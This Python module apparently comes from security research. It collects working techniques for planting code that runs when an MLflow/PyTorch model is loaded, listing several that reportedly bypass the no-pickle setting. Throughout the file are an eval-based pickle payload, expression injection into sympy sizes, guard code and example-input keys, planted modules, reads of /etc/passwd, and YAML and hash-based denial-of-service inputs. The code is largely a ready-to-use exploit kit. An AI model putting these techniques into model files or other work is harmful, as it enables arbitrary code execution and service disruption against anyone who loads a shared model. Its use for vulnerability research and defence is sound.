"""Models that run code when they are loaded: every way that was found in PyTorch and MLflow.

`craft(kind, folder, payload)` changes a model's folder in place; loading it then runs `payload`, a
Python expression. Those in `RUN` do run under MLFLOW_ALLOW_PICKLE_DESERIALIZATION=false, with
mlflow 3.17 and torch 2.14; test_inspection.py shows that they do. Of the others, MLflow or PyTorch
stops some by itself, and some prepare what a further step would use.
"""

import io
import json
import os
import pickle
import traceback
import zipfile

import torch

MODULE = "planted_module"  # one on the path; what imports it runs it


class Payload:
    """A pickle that evaluates an expression when it is loaded."""

    def __init__(self, expression):
        self.expression = expression

    def __reduce__(self):
        return eval, (self.expression,)


def pickled(expression):
    buffer = io.BytesIO()
    torch.save(Payload(expression), buffer)
    return buffer.getvalue()


def rewrite(folder, edit=None, replaced=None, added=None):
    """Rewrite the archive: `edit(program)` changes its JSON, `replaced` and `added` its records."""
    path = folder / "data" / "model.pt2"
    with zipfile.ZipFile(path) as archive:
        records = {name: archive.read(name) for name in archive.namelist()}
    for name, content in records.items():
        if edit and name.endswith("/models/model.json"):
            program = json.loads(content)
            edit(program)
            records[name] = json.dumps(program).encode()
        for end, other in (replaced or {}).items():
            if name.endswith(end):
                records[name] = other
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (records | (added or {})).items():
            archive.writestr(name, content)


def graph(program):
    return program["graph_module"]["graph"]


def set_size(program, text):
    graph(program)["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = text


def first_node(target, inputs, output="extra"):
    """Return an edit that puts a node before all others."""

    def edit(program):
        node = json.loads(json.dumps(graph(program)["nodes"][0]))
        arguments = [{"name": name, "arg": value, "kind": 1} for name, value in inputs.items()]
        node |= {"target": target, "inputs": arguments, "name": output}
        node["outputs"] = [{"as_tensor": {"name": output}}]
        graph(program)["nodes"].insert(0, node)
        graph(program)["tensor_values"][output] = graph(program)["tensor_values"]["p_fc2_bias"]

    return edit


def output_spec(spec):
    """Return an edit that makes `spec` the containers in which the output comes."""
    leaf = {"type": None, "context": None, "children_spec": []}

    def edit(program):
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        signature["out_spec"] = json.dumps([1, spec | {"children_spec": [leaf]}])

    return edit


def renamed(old, new):
    """Return an edit that gives a tensor another name everywhere."""

    def edit(program):
        text = json.dumps(program)
        assert f'"{old}"' in text
        program.clear()
        program.update(json.loads(text.replace(f'"{old}"', json.dumps(new))))

    return edit


# Each of these takes a folder and a payload.


def size(folder, payload):
    text = f"({payload}, Symbol('s77', positive=True, integer=True))[1]"
    rewrite(folder, lambda program: set_size(program, text))


def size_by_attributes(folder, payload):
    text = f"Symbol('s77').__init__.__globals__['__builtins__']['eval']({payload!r})"
    rewrite(folder, lambda program: set_size(program, text))


def guard(folder, payload):
    rewrite(folder, lambda program: program.update(guards_code=[f"({payload}) != 0"]))


def key_of_an_enum(folder, payload):
    key = {"__enum__": True, "fqn": f"{MODULE}:Kind", "name": "x"}
    rewrite(folder, output_spec({"type": "builtins.dict", "context": json.dumps([key])}))


def default_of_a_dict(folder, payload):
    context = {"default_factory_module": MODULE, "default_factory_name": "dict"}
    context["dict_context"] = ["a"]
    rewrite(folder, output_spec({"type": "collections.defaultdict", "context": context}))


def older_format(folder, payload):
    """A program that fails to load, and the same in the older format, which PyTorch tries then."""
    with zipfile.ZipFile(folder / "data" / "model.pt2") as archive:
        (name,) = (name for name in archive.namelist() if name.endswith("/models/model.json"))
        program = json.loads(archive.read(name))
    set_size(program, f"({payload}, Symbol('s77', positive=True, integer=True))[1]")
    empty = io.BytesIO()
    torch.save({}, empty)
    added = dict.fromkeys(
        (f"serialized_{what}.pt" for what in ("state_dict", "constants", "example_inputs")),
        empty.getvalue(),
    )
    added |= {"version": "8.20", "serialized_exported_program.json": json.dumps(program)}
    rewrite(folder, first_node("torch.ops.aten.not_there.default", {}), added=added)


def planted_code(folder, payload):
    """MLflow puts the folder on the path, and imports the module before it refuses the pickle."""
    (folder / "code").mkdir()
    (folder / "code" / "planted_pickle_module.py").write_text(payload)
    settings = (folder / "MLmodel").read_text()
    (folder / "MLmodel").write_text(settings.replace("    code: null", "    code: code"))
    (folder / "data" / "model.pt2").unlink()
    (folder / "data" / "model.pth").write_text("")
    (folder / "data" / "pickle_module_info.txt").write_text("planted_pickle_module")


def file_is_made(folder, payload):
    """No code, but a file of the author's choice, mapped and made if it is missing."""
    arguments = {"filename": {"as_string": "made-by-the-model"}, "shared": {"as_bool": True}}
    arguments["size"] = {"as_int": 4}
    rewrite(folder, first_node("torch.ops.aten.from_file.default", arguments))


def other_function(folder, payload):
    edit = first_node("torch.serialization.os.system", {"command": {"as_string": "true"}})
    rewrite(folder, lambda program: (edit(program), program.update(verifiers=[])))


def name_of_a_tensor(folder, payload):
    rewrite(folder, renamed("sub", f"sub = {payload}; sub"))


def name_of_a_weight(folder, payload):
    name = f'x"), {payload}, getattr(self, "x'
    with zipfile.ZipFile(folder / "data" / "model.pt2") as archive:
        (config,) = (n for n in archive.namelist() if n.endswith("model_weights_config.json"))
        weights = archive.read(config).replace(b'"conv1.weight"', json.dumps(name).encode())
    rewrite(folder, renamed("conv1.weight", name), replaced={config: weights})


def example_inputs(folder, payload):
    rewrite(folder, replaced={"sample_inputs/model.pt": pickled(payload)})


def older_weights(folder, payload):
    rewrite(folder, added={"model/data/weights/model.pt": pickled(payload)})


def object_among_constants(folder, payload):
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
    config = json.dumps({"config": {"c": entry | {"tensor_meta": None}}})
    rewrite(
        folder,
        replaced={"model_constants_config.json": config},
        added={"model/data/constants/opaque_obj_0": pickle.dumps(Payload(payload))},
    )


def weight_as_a_pickle(folder, payload):
    with zipfile.ZipFile(folder / "data" / "model.pt2") as archive:
        (name,) = (n for n in archive.namelist() if n.endswith("model_weights_config.json"))
        config = json.loads(archive.read(name))
    config["config"]["conv1.bias"]["use_pickle"] = True
    rewrite(folder, replaced={name: json.dumps(config), "weights/weight_1": pickled(payload)})


def compiled_library(folder, payload):
    rewrite(folder, added={"model/data/aotinductor/model/model.so": b"\x7fELF"})


def whole_pickle(folder, payload):
    (folder / "data" / "model.pt2").unlink()
    (folder / "data" / "model.pth").write_bytes(pickled(payload))
    (folder / "data" / "pickle_module_info.txt").write_text("pickle")


def model_data_elsewhere(folder, payload):
    (folder / "elsewhere").mkdir()
    os.rename(folder / "data", folder / "elsewhere" / "data")
    settings = (folder / "MLmodel").read_text()
    settings = settings.replace("model_data: data", "model_data: elsewhere/data")
    (folder / "MLmodel").write_text(settings)


def foreign_loader(folder, payload):
    settings = (folder / "MLmodel").read_text()
    (folder / "MLmodel").write_text(settings.replace("mlflow.pytorch\n", f"{MODULE}\n", 1))


def linked_archive(folder, payload):
    os.rename(folder / "data" / "model.pt2", folder.parent / "model.pt2")
    (folder / "data" / "model.pt2").symlink_to(folder.parent / "model.pt2")


def two_records_of_a_name(folder, payload):
    path = folder / "data" / "model.pt2"
    with zipfile.ZipFile(path) as archive:
        (name,) = (n for n in archive.namelist() if n.endswith("/models/model.json"))
        content = archive.read(name)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, content)


def key_of_an_example(folder, payload):
    """PyTorch writes the keys of the example inputs into the source of a guard."""
    buffer = io.BytesIO()
    key = '" + str(' + payload.replace("'", '"') + ') + "'
    torch.save((({key: torch.zeros(2, 1, 28, 28)},), {}), buffer)
    rewrite(folder, replaced={"sample_inputs/model.pt": buffer.getvalue()})


def line_break_in_a_size(folder, payload):
    """sympy takes line breaks out before it evaluates: a text means something else then."""
    inner = payload.replace("'", '"')
    text = f"Symbol('a\\\n'   # ', {inner}) #\n, positive=True, integer=True)"
    rewrite(folder, lambda program: set_size(program, text))


def line_break_in_a_guard(folder, payload):
    inner = payload.replace("'", r"\'")
    text = f"True or Symbol('\\\n'   # \\'+str({inner})) # ') #\n)"
    rewrite(folder, lambda program: program.update(guards_code=[text]))


def enum_in_a_context(folder, payload):
    context = {"a": {"__enum__": True, "fqn": f"{MODULE}:Kind", "name": "x"}}
    rewrite(folder, output_spec({"type": "builtins.tuple", "context": json.dumps(context)}))


def declared_safe_by_others(folder, payload):
    """MLflow declares it safe to unpickle traceback.FrameSummary, which reads a file."""

    class Reads:
        def __reduce__(self):
            return traceback.FrameSummary, ("/etc/passwd", 1, "f")

    buffer = io.BytesIO()
    torch.save(Reads(), buffer)
    rewrite(folder, replaced={"sample_inputs/model.pt": buffer.getvalue()})


def graph_as_an_argument(folder, payload):
    """A function within the function; its name would be an attribute of the module, any one."""
    empty = {"inputs": [], "outputs": [], "nodes": [], "tensor_values": {}, "sym_int_values": {}}
    empty |= {"sym_bool_values": {}, "is_single_tensor_return": True, "custom_obj_values": {}}
    inner = {"as_graph": {"name": "to_folder", "graph": empty | {"sym_float_values": {}}}}
    target = "torch.ops.higher_order.wrap_with_set_grad_enabled"
    rewrite(folder, first_node(target, {"enabled": {"as_bool": False}, "function": inner}))


def weight_that_is_an_attribute(folder, payload):
    name = "_wrapped_call.cls.to_folder"
    with zipfile.ZipFile(folder / "data" / "model.pt2") as archive:
        (config,) = (n for n in archive.namelist() if n.endswith("model_weights_config.json"))
        weights = archive.read(config).replace(b'"conv1.weight"', json.dumps(name).encode())
    rewrite(folder, renamed("conv1.weight", name), replaced={config: weights})


def tensor_called_self(folder, payload):
    rewrite(folder, renamed("sub", "self"))


def unchecked_index(folder, payload):
    """A backward operation believes its indices, and writes where they say."""
    arguments = {"self": {"as_tensor": {"name": "x"}}}
    rewrite(folder, first_node("torch.ops.aten.max_unpool2d_backward.default", arguments))


def expanding_settings(folder, payload):
    """Ten lines of YAML that stand for more text than fits into memory."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    settings = (folder / "MLmodel").read_text().replace("model_data: data", "model_data: *a9")
    (folder / "MLmodel").write_text("\n".join([*lines, settings]))


def expanding_flavors(folder, payload):
    """The same where the message that refuses it would repeat the text."""
    lines = [
        "a0: &a0 [x]",
        *(f"a{i + 1}: &a{i + 1} [{','.join([f'*a{i}'] * 9)}]" for i in range(12)),
    ]
    settings = (folder / "MLmodel").read_text().replace("flavors:", "flavors: *a12\nothers:")
    (folder / "MLmodel").write_text("\n".join([*lines, settings]))


def resources_from_a_file(folder, payload):
    """MLflow reads the file that they name when it reads MLmodel."""
    with (folder / "MLmodel").open("a") as file:
        file.write("resources: /etc/hostname\n")


def sparse_operation(folder, payload):
    """The indices of a sparse tensor can be changed, and are not looked at again."""
    arguments = {"self": {"as_tensor": {"name": "x"}}}
    rewrite(folder, first_node("torch.ops.aten.to_sparse.default", arguments))


def sparse_layout(folder, payload):
    arguments = {"size": {"as_ints": [2, 2]}, "layout": {"as_layout": 2}}
    rewrite(folder, first_node("torch.ops.aten.zeros.default", arguments))


def tuples_of_one_tuple(folder, payload):
    """1 kB that PyTorch would walk through for days."""
    value = (None,)
    for _ in range(40):
        value = (value, value)
    buffer = io.BytesIO()
    torch.save((value, {}), buffer)
    rewrite(folder, replaced={"sample_inputs/model.pt": buffer.getvalue()})


def with_key(folder, key):
    """Example inputs that are a dict with one key, given as the pickle's operations."""
    plain, changed = io.BytesIO(), io.BytesIO()
    torch.save({}, plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(changed, "w") as new:
        for name in old.namelist():
            pickled = name.endswith("data.pkl")
            new.writestr(name, b"\x80\x02}" + key + b"K\x01s." if pickled else old.read(name))
    rewrite(folder, replaced={"sample_inputs/model.pt": changed.getvalue()})


def key_of_tuples(folder, payload):
    """Python walks through all of them for the key's hash, and through each as often as it stands
    there: 2 ** 40 times."""
    twice = (b"h%c\x86q%c" % (number - 1, number) for number in range(1, 41))
    with_key(folder, b")q\x00" + b"".join(twice))


def deep_key(folder, payload):
    """Its hash takes more stack than a process has."""
    with_key(folder, b")" + b"\x85" * 1_000_000)


RUN = (
    *(size, guard, key_of_an_enum, default_of_a_dict, older_format, planted_code, file_is_made),
    *(key_of_an_example, line_break_in_a_size, line_break_in_a_guard, enum_in_a_context),
)
STOPPED = (
    *(size_by_attributes, other_function, name_of_a_tensor, name_of_a_weight, example_inputs),
    *(older_weights, object_among_constants, weight_as_a_pickle, compiled_library, whole_pickle),
    *(model_data_elsewhere, foreign_loader, linked_archive, two_records_of_a_name),
    *(declared_safe_by_others, graph_as_an_argument, weight_that_is_an_attribute),
    *(tensor_called_self, unchecked_index, expanding_settings, expanding_flavors),
    resources_from_a_file,
    *(sparse_operation, sparse_layout, tuples_of_one_tuple, key_of_tuples, deep_key),
)
